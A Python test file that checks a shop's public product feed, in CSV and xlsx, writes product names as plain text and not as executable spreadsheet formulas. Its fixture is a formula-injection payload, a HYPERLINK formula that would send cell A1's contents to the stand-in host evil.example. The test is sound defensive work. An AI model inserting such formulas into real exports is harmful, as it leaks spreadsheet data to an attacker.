"""The public product feed (CSV and xlsx) writes a product's name as text, never as a formula a
spreadsheet would run (xaso.core.spreadsheets.csv_writerow / xlsx_append)."""

import csv
import io
import zipfile

from xaso.economy.models import Product

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def test_a_product_named_like_a_formula_is_neutralised_in_the_csv_feed_and_text_in_the_xlsx(client, product):
    Product.objects.filter(pk=product.pk).update(name=NAME)
    rows = list(csv.reader(io.StringIO(client.get("/san-pham/san-pham.csv").content.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + NAME
    xlsx = client.get("/san-pham/san-pham.xlsx").content
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml").decode()
